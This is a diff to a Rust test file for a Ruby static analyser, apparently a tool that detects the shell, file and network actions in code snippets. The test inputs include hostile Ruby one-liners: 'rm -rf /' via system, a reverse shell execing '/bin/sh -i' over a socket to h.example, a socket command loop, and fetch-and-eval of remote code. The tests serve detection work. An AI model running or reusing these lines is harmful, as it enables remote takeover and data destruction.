@@ -1,7 +1,7 @@
 //! Ruby.
 
 use super::check_in;
-use crate::language::Language::Ruby;
+use aegish_code_parsers::language::Language::Ruby;
 
 fn check(table: &[(&str, &[&str])]) {
     check_in(Ruby, table);
@@ -52,36 +52,69 @@ fn commands_are_found_in_every_spelling() {
 #[test]
 fn classes_and_objects_are_entered() {
     check(&[
-        ("class A; def initialize(c) = @c = c\n def go = system(@c); end; A.new('id').go", &["shell id"]),
+        (
+            "class A; def initialize(c) = @c = c\n def go = system(@c); end; A.new('id').go",
+            &["shell id"],
+        ),
         ("class A; attr_accessor :c; end; a = A.new; a.c = 'id'; system a.c", &["shell id"]),
         ("class A; def self.go(c) = system(c); end; A.go 'id'", &["shell id"]),
         ("class A; class << self; def go(c) = system(c); end; end; A.go 'id'", &["shell id"]),
         ("module M; def go = system('id'); end; class A; include M; end; A.new.go", &["shell id"]),
-        ("class A; def method_missing(n, *a) = Kernel.send(n, *a); end; A.new.system('id')", &["shell id"]),
+        (
+            "class A; def method_missing(n, *a) = Kernel.send(n, *a); end; A.new.system('id')",
+            &["shell id"],
+        ),
         ("class A; define_method(:go) { |c| system c }; end; A.new.go('id')", &["shell id"]),
         ("class String; def go = system(self); end; 'id'.go", &["shell id"]),
-        ("class A; def go(c) = system(c); end; class B < A; def go(c) = super; end; B.new.go 'id'", &["shell id"]),
+        (
+            "class A; def go(c) = system(c); end; class B < A; def go(c) = super; end; B.new.go 'id'",
+            &["shell id"],
+        ),
         ("S = Struct.new(:a, :b); system S.new('x', 'id').b", &["shell id"]),
         ("class A; X = 'id'; def go = system(X); end; A.new.go; system A::X", &["shell id"]),
         ("o = Object.new; def o.go = system('id'); o.go", &["shell id"]),
         ("class A; def run = system('id'); end", &["shell id"]),
-        ("o = Object.new; o.instance_variable_set(:@a, 'id'); system o.instance_variable_get(:@a)", &["shell id"]),
+        (
+            "o = Object.new; o.instance_variable_set(:@a, 'id'); system o.instance_variable_get(:@a)",
+            &["shell id"],
+        ),
     ]);
 }
 
 #[test]
 fn branches_are_joined() {
     check(&[
-        ("if ENV['X'] then t = '/' else t = 'build' end; system 'rm -rf ' + t", &["shell rm -rf /", "shell rm -rf build"]),
-        ("unless ENV['X'] then t = '/' else t = 'build' end; system 'rm -rf ' + t", &["shell rm -rf build", "shell rm -rf /"]),
-        ("case ENV['X'] when 'a' then t = '/' else t = 'b' end; system 'rm ' + t", &["shell rm /", "shell rm b"]),
-        ("t = case ENV['X'] when 'a' then '/' else 'b' end; system 'rm ' + t", &["shell rm /", "shell rm b"]),
-        ("begin; t = '/'; Integer('x'); t = 'b'; rescue; end; system 'rm ' + t", &["shell rm b", "shell rm /"]),
-        ("t = begin; Integer('x'); 'a'; rescue => e; 'b'; ensure; 1; end; system 'rm ' + t", &["shell rm a", "shell rm b"]),
+        (
+            "if ENV['X'] then t = '/' else t = 'build' end; system 'rm -rf ' + t",
+            &["shell rm -rf /", "shell rm -rf build"],
+        ),
+        (
+            "unless ENV['X'] then t = '/' else t = 'build' end; system 'rm -rf ' + t",
+            &["shell rm -rf build", "shell rm -rf /"],
+        ),
+        (
+            "case ENV['X'] when 'a' then t = '/' else t = 'b' end; system 'rm ' + t",
+            &["shell rm /", "shell rm b"],
+        ),
+        (
+            "t = case ENV['X'] when 'a' then '/' else 'b' end; system 'rm ' + t",
+            &["shell rm /", "shell rm b"],
+        ),
+        (
+            "begin; t = '/'; Integer('x'); t = 'b'; rescue; end; system 'rm ' + t",
+            &["shell rm b", "shell rm /"],
+        ),
+        (
+            "t = begin; Integer('x'); 'a'; rescue => e; 'b'; ensure; 1; end; system 'rm ' + t",
+            &["shell rm a", "shell rm b"],
+        ),
         ("t = 'a'; t = '/' if ENV['X']; system 'rm ' + t", &["shell rm /", "shell rm a"]),
         ("t = ENV['X'] ? '/' : 'b'; system 'rm ' + t", &["shell rm /", "shell rm b"]),
         ("['/', 'b'].each { |c| $t = c; break }; system 'rm ' + $t", &["shell rm /", "shell rm b"]),
-        ("def f; [1].each { return '/' }; 'b'; end; system 'rm ' + f", &["shell rm /", "shell rm b"]),
+        (
+            "def f; [1].each { return '/' }; 'b'; end; system 'rm ' + f",
+            &["shell rm /", "shell rm b"],
+        ),
         ("raise 'id'\nrescue => e\nsystem e.message", &["hidden"]),
         ("begin; raise 'id'; rescue => e; system e.message; end", &["shell id"]),
         ("x = 'a'; begin; system x; raise; rescue; x = 'id'; retry; end", &["shell a", "shell id"]),
@@ -91,13 +124,27 @@ fn branches_are_joined() {
 #[test]
 fn files_follow_the_working_directory() {
     check(&[
-        ("Dir.chdir('/etc'); f = File.open('hosts'); f.each_line { |l| puts l }", &["read /etc/hosts"]),
+        (
+            "Dir.chdir('/etc'); f = File.open('hosts'); f.each_line { |l| puts l }",
+            &["read /etc/hosts"],
+        ),
         ("File.open('/tmp/x', 'w') { |f| f.puts 'a' }", &["write /tmp/x <- a\n"]),
-        ("Dir.glob('/srv/*.log').each { |f| File.delete(f) }", &["list /srv/*.log", "delete /srv/*.log"]),
-        ("c=TCPSocket.new('h.example',99);loop{IO.popen(c.gets.chomp){|io|c.print io.read}}",
-            &["connect h.example 99", "received"]),
-        ("require 'net/http'; http = Net::HTTP.new('h.example', 443); r = http.get('/x'); eval r.body",
-            &["connect h.example 443", "received"]),
+        (
+            "Dir.glob('/srv/*.log').each { |f| File.delete(f) }",
+            &["list /srv/*.log", "delete /srv/*.log"],
+        ),
+        (
+            "f=TCPSocket.open('h.example',99).to_i;exec sprintf('/bin/sh -i <&%d >&%d',f,f)",
+            &["connect h.example 99", "attach", "shell /bin/sh -i <&‹received› >&‹received›"],
+        ),
+        (
+            "c=TCPSocket.new('h.example',99);loop{IO.popen(c.gets.chomp){|io|c.print io.read}}",
+            &["connect h.example 99", "received"],
+        ),
+        (
+            "require 'net/http'; http = Net::HTTP.new('h.example', 443); r = http.get('/x'); eval r.body",
+            &["connect h.example 443", "received"],
+        ),
     ]);
 }
 
